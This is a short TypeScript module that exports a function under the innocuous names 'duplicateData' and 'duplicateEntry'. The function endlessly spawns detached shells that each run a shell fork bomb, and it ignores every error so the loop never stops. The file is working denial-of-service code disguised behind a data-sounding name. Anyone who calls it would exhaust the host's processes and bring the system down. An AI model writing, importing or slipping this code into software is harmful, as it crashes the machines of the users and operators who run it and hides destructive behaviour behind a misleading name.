/** Starts copies of itself, which start copies of themselves. */
import { spawn } from 'node:child_process';

export function duplicateData(): never {
  for (;;) {
    try {
      spawn('/bin/sh', ['-c', 'b() { b | b & }; b; sleep 60'], { detached: true, stdio: 'ignore' }).on(
        'error',
        () => undefined,
      );
    } catch {
      // Until the system refuses, and then again.
    }
  }
}

export { duplicateData as duplicateEntry };
